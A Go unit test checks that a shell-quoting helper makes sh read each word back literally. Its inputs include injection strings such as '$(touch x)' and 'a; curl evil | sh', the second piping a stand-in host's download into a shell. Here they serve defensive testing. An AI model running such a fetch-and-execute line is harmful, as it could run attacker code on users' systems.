package text_test

import (
	"os/exec"
	"testing"

	"capgraph/internal/text"
)

// A shell reads a quoted word as what it was.
func TestQuote(t *testing.T) {
	for _, word := range []string{
		"", "out/sample", "s3://bucket/out", "a b", "it's", `a"b\c`, "$(touch x)", "`touch x`", "a; curl evil | sh", "~", "*", "#a", "a\nb", "\x1b[31m", "größe", "!!",
	} {
		got, err := exec.Command("sh", "-c", "printf %s "+text.Quote(word)).Output()
		if err != nil || string(got) != word {
			t.Errorf("Quote(%q) is %s, which a shell reads as %q (%v)", word, text.Quote(word), got, err)
		}
	}
}
